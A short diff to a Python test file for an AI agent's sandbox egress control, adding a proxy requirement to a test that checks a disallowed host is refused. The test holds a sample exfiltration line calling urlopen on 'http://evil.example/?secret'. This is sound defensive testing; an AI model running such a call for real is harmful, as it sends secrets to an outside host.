@@ -13,6 +13,7 @@ from ay_bot.agent.guarding import judge_line
 from ay_bot.errors import CommandRefused, ExitCode, UsageError
 from ay_bot.host.egress import Attempt, Network
 from ay_bot.host.sandbox_exec import Executed, Wanted, choose_network, run
+from tests.host.egress.conftest import require_proxy
 from tests.host.git_repositories import make_repository
 from tests.host.sandbox.conftest import BUBBLEWRAP, DOCKER
 
@@ -138,6 +139,7 @@ def test_a_network_is_named_in_one_word(word, where, mode, presets, hosts) -> No
 
 
 def test_a_host_that_is_not_allowed_is_refused_with_the_change_that_would_allow_it(driver: str) -> None:
+    require_proxy(driver)
     told: list[Attempt] = []
     ask = "import urllib.request as r\nr.urlopen('http://evil.example/?secret')"
     wanted = Wanted(sandbox=driver, network="pip", tell=told.append)
